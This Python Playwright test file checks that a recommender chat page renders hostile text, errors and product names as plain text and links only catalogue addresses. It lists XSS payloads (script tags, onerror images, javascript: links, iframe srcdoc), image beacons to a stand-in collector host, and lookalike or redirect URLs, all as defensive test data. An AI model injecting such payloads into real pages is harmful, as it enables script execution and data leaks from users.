"""Words stay words: nothing in a message, a name, an address or an error runs, loads or leads away."""

from __future__ import annotations

import pytest
from playwright.sync_api import Route, expect

from tests.ui.pages import JAVA, PREFIX, SQL, RecommenderPage, answer

HOSTILE = [
    "<script>window.hit = 1</script>",
    "<img src=x onerror='window.hit = 1'>",
    "<svg/onload=window.hit=1>",
    "[spec](JaVaScRiPt:window.hit=1) [x](&#106;avascript:window.hit=1)",
    "[y](data:text/html,<b>hi</b>)",
    "Done ![ok](https://collector.example.net/p.png?q=layoffs) <img src='https://collector.example.net/q?d=1'>",
    "\"><iframe srcdoc='<script>parent.hit=1</script>'>",
    "\u202eabc \u0645\u0631\u062d\u0628\u0627 " + "W" * 400,
]
ADDRESSES = [
    "javascript:window.hit=1",
    "https://evil.example/products/product-catalog/view/sql-new/",
    "https://www.shl.com.evil.example/products/product-catalog/view/sql-new/",
    f"{PREFIX}/sql-new/?next=//evil.example",
    f"{PREFIX}/sql-new/#x",
    "//evil.example/view/sql-new/",
    "data:text/html,sql-new",
    "http://www.shl.com/products/product-catalog/view/sql-new/",
    "https://user@www.shl.com/products/product-catalog/view/sql-new/",
    "",
]


def is_unharmed(page: RecommenderPage) -> None:
    page.page.wait_for_timeout(50)
    assert page.page.evaluate("window.hit ?? null") is None
    assert page.page.locator("main img, main iframe, main script, dialog img, dialog script").count() == 0
    assert page.overflow() == 0


@pytest.mark.parametrize("text", HOSTILE)
def test_messages_replies_and_names_are_text(page: RecommenderPage, text: str) -> None:
    page.stub_chat(answer(text, [{**SQL, "name": text}, {**SQL, "name": "b", "test_type": text}]))
    page.say(text)
    expect(page.page.locator("[data-text]")).to_have_text(text)
    assert page.replies.evaluate("element => element.textContent") == text
    expect(page.cards.first.get_by_role("heading")).to_contain_text(text)
    assert page.replies.get_by_role("link").count() == 0
    is_unharmed(page)


@pytest.mark.parametrize("text", HOSTILE)
def test_errors_and_explanations_are_text(desk: RecommenderPage, text: str) -> None:
    desk.expected = ["status of 422"]
    problem = {"title": text, "detail": text, "status": 422}
    desk.page.route("**/chat", lambda route: route.fulfill(status=422, json=problem), times=1)
    desk.say("x")
    expect(desk.notice).to_contain_text(text)
    is_unharmed(desk)

    def explain(route: Route) -> None:
        body = route.fetch().json()
        told = body["explanation"]
        told |= {"reason": text, "assumptions": [text], "notes": [text], "act": text}
        told["not_covered"] = [{"what": text, "note": text, "nearest": [text]}]
        told["understood"] |= {"role_text": text, "unknown_names": [text]}
        route.fulfill(json=body)

    desk.expected.append("status of 404")
    desk.page.route("**/chat/explain", explain)
    desk.box.fill(JAVA)
    desk.box.press("Enter")
    expect(desk.replies).to_have_count(1)
    desk.settle()
    desk.act("why").click()
    expect(desk.dialog("why").locator("[data-part=gaps]")).to_contain_text(text)
    is_unharmed(desk)


@pytest.mark.parametrize("address", ADDRESSES)
def test_only_addresses_that_the_catalogue_gives_are_links(desk: RecommenderPage, address: str) -> None:
    desk.expected = ["status of 404"]
    desk.stub_chat(answer("Here.", [{**SQL, "url": address}]))
    desk.say("x")
    expect(desk.cards).to_have_count(1)
    assert desk.cards.get_by_role("link").count() == 0
    expect(desk.cards.locator("[data-unknown]")).to_be_visible()
    is_unharmed(desk)


def test_a_catalogue_that_gives_a_bad_address_gets_no_link(desk: RecommenderPage) -> None:
    bad = "javascript:window.hit=1//https://x/sql-new/"

    def forged(route: Route) -> None:
        route.fulfill(json={**route.fetch().json(), "url": bad})

    desk.page.route("**/assessments/*", forged)
    desk.stub_chat(answer("Here.", [{**SQL, "url": bad}, SQL]))
    desk.say("x")
    assert desk.cards.get_by_role("link").count() == 0


def test_the_policy_is_in_force(desk: RecommenderPage) -> None:
    desk.expected = ["Content Security Policy", "TrustedHTML", "TrustedScript"]
    assert (
        desk.page.evaluate("try { document.body.innerHTML = '<b>x</b>'; 'set' } catch { 'refused' }")
        == "refused"
    )
    desk.page.evaluate(
        "(() => { const image = new Image(); image.src = 'https://collector.example.net/p.png'; document.body.append(image) })()"
    )
    desk.page.wait_for_timeout(100)
    desk._foreign.clear()  # Chromium reports the request that it then refuses to make


def test_a_malformed_list_does_not_break_the_page(desk: RecommenderPage) -> None:
    for items in (None, "x", [None, 1, {"name": 1}, {"name": "only a name"}]):
        desk.stub_chat({"reply": "Here.", "recommendations": items, "end_of_conversation": "no"})
        desk.say("x")
    expect(desk.cards).to_have_count(1)
    expect(desk.cards).to_contain_text("only a name")
